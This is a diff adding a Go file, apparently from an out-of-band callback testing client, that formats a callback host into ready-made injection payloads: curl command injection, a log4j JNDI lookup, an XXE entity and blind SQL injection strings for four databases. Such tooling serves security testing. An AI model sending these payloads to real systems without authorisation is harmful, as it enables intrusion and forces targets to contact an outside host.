@@ -0,0 +1,40 @@
+package client
+
+import (
+	"fmt"
+	"strings"
+)
+
+// PayloadFormats are the formats supported by FormatPayload
+var PayloadFormats = []string{"curl", "log4j", "xxe", "sqli-mssql", "sqli-mysql", "sqli-oracle", "sqli-postgres"}
+
+// payloadFormats are the templates of the payload formats, %[1]s being
+// replaced with the payload
+var payloadFormats = map[string]string{
+	// curl is a command injection fetching the payload over http
+	"curl": "curl http://%[1]s/",
+	// log4j is a jndi lookup connecting to the ldap server
+	"log4j": "${jndi:ldap://%[1]s/a}",
+	// xxe is a doctype with an external parameter entity fetching the payload
+	"xxe": `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY %% x SYSTEM "http://%[1]s/x.dtd">%%x;]><r/>`,
+	// the blind sql injections resolve the payload with a function of the database
+	"sqli-mssql":    `;EXEC master..xp_dirtree '\\%[1]s\a';--`,
+	"sqli-mysql":    `SELECT LOAD_FILE(CONCAT('\\\\', '%[1]s', '\\a'))`,
+	"sqli-oracle":   `SELECT UTL_INADDR.GET_HOST_ADDRESS('%[1]s') FROM dual`,
+	"sqli-postgres": `COPY (SELECT '') TO PROGRAM 'nslookup %[1]s'`,
+}
+
+// FormatPayload returns a payload (which can include tags prepended to the
+// unique id) embedded in a ready to use string of the format, eg. a log4j
+// jndi lookup or the dns function call of a blind sql injection.
+func (c *Client) FormatPayload(payload, format string) (string, error) {
+	return formatPayload(payload, format)
+}
+
+func formatPayload(payload, format string) (string, error) {
+	template, ok := payloadFormats[format]
+	if !ok {
+		return "", fmt.Errorf("unknown payload format %s (%s)", format, strings.Join(PayloadFormats, ","))
+	}
+	return fmt.Sprintf(template, payload), nil
+}